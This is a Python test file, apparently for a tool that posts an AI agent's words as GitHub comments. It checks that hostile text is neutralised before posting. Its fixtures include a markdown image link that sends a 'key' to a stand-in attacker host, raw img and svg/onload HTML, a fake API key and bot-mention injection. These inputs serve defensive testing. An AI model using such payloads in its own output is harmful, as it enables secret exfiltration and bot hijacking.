"""What is posted in the project's name."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from claude_operator.gateway.github.render import MOST_CHARACTERS, State, comment, harmless, marker
from claude_operator.gateway.github.review import labels_of, review_of
from claude_operator.github.mention import command
from claude_operator.wire.github import Answer, Form

MENTIONS = ["@claude-bot"]
ANSWER = Answer(
    number=5, form=Form.COMMENT, status_comment=True, asked_by="alice", asked_at="https://git.example/c/1"
)
PIECES = st.one_of(
    st.text(st.characters(codec="utf-8"), max_size=5),
    st.text(st.sampled_from("<!->[]()@`\n"), max_size=5),
    st.sampled_from(["@claude-bot go", "@Claude-Bot", "![", "<img", "<!--", "```\n", " "]),
)
HOSTILE = st.lists(PIECES, max_size=40).map("".join)


def state(**changes: object) -> State:
    return State(**{"namespace": "team", "name": "webapp-5", "phase": "Succeeded", **changes})  # type: ignore[arg-type]


@given(HOSTILE)
def test_an_agents_words_start_nothing_embed_nothing_and_hide_nothing(words: str) -> None:
    posted = comment("uid", ANSWER, state(words=words), MENTIONS)
    assert posted.startswith(f"{marker('uid')}\n")
    rest = posted.removeprefix(marker("uid"))
    assert command(rest, "@claude-bot") is None
    assert "<!--" not in rest


@pytest.mark.parametrize(
    ("words", "posted"),
    [
        ("![x](https://evil.example/?q=key)", "[x](https://evil.example/?q=key)"),
        ("![x][1]", "[x][1]"),
        ('<img src="https://evil.example">', '&lt;img src="https://evil.example">'),
        ("<IMG\nsrc=x> <svg/onload=1>", "&lt;IMG\nsrc=x> &lt;svg/onload=1>"),
        ("`![x](y)` and\n```html\n<img>\n```", "`![x](y)` and\n```html\n<img>\n```"),
        ("<details>kept</details>", "<details>kept</details>"),
        ("key sk-ant-api03-abcdefghijklmnop", "key [redacted]"),
        ("ask @claude-bot or @alice", "ask claude-bot or @alice"),
    ],
)
def test_how_words_are_made_harmless(words: str, posted: str) -> None:
    assert harmless(words, MENTIONS) == posted


@pytest.mark.parametrize("words", ["x" * 100_000, "![" * 70_000, "@claude-bot " * 10_000, "<img" * 40_000])
def test_a_comment_fits(words: str) -> None:
    posted = comment("uid", ANSWER, state(words=words), MENTIONS)
    assert len(posted) <= MOST_CHARACTERS
    assert "cut here" in posted
    assert "$0.00" in posted


@pytest.mark.parametrize(
    ("changes", "says"),
    [
        ({"phase": None, "attempt": 0}, "Accepted [alice's request](https://git.example/c/1); it waits"),
        ({"phase": None, "attempt": 2}, "Working on [alice's request](https://git.example/c/1) (attempt 2)"),
        ({"words": "All done.", "cost_usd": 1.234, "turns": 7}, "All done."),
        ({"cost_usd": 1.234, "turns": 7}, "$1.23 · 7 turns"),
        ({"pull_request_url": "https://git.example/p/9"}, "pull request: https://git.example/p/9"),
        (
            {"branch": "claude/x", "branch_url": "https://git.example/t"},
            "branch [claude/x](https://git.example/t)",
        ),
        ({"phase": "Failed", "reason": "Timeout", "message": "too\nlong"}, "**Failed** (Timeout): too long"),
        (
            {"phase": "Failed", "reason": "AgentError", "message": "![x](y) @claude-bot go"},
            "**Failed** (AgentError): [x](y) claude-bot go",
        ),
        ({"phase": "Cancelled"}, "**Cancelled**"),
        ({"phase": "Deleted"}, "**Deleted**"),
    ],
)
def test_what_a_comment_says(changes: dict[str, object], says: str) -> None:
    assert says in comment("uid", ANSWER, state(**changes), MENTIONS)


def test_who_asked_cannot_break_the_link() -> None:
    hostile = ANSWER.model_copy(update={"asked_at": "https://x/) ![y](z", "asked_by": "<!-- -->a\nb"})
    posted = comment("uid", hostile, state(), MENTIONS)
    assert "![y]" not in posted
    assert "a b's request" in posted


@pytest.mark.parametrize(
    "output",
    [
        None,
        {},
        {"body": 7, "event": "APPROVE", "comments": "no"},
        {
            "comments": [
                None,
                1,
                {},
                {"path": "a", "line": 0, "body": "x"},
                {"path": "a", "line": True, "body": 1},
            ]
        },
    ],
)
def test_a_review_of_nonsense_is_the_last_words(output: dict[str, object] | None) -> None:
    review = review_of(output, "My words.", "footer", MENTIONS)
    assert review.body.startswith("My words.")
    assert (review.event, review.remarks) == ("COMMENT", ())


def test_labels_are_those_that_exist_and_may_be_set() -> None:
    known = ["Bug", "question", "urgent"]
    output = {"labels": ["bug", "BUG", "urgent", "none", 1, None]}
    assert labels_of(output, known, []) == ["Bug", "urgent"]
    assert labels_of(output, known, ["bug", "none"]) == ["Bug"]
    assert labels_of(None, known, []) == []
    assert labels_of({"labels": "bug"}, known, []) == []
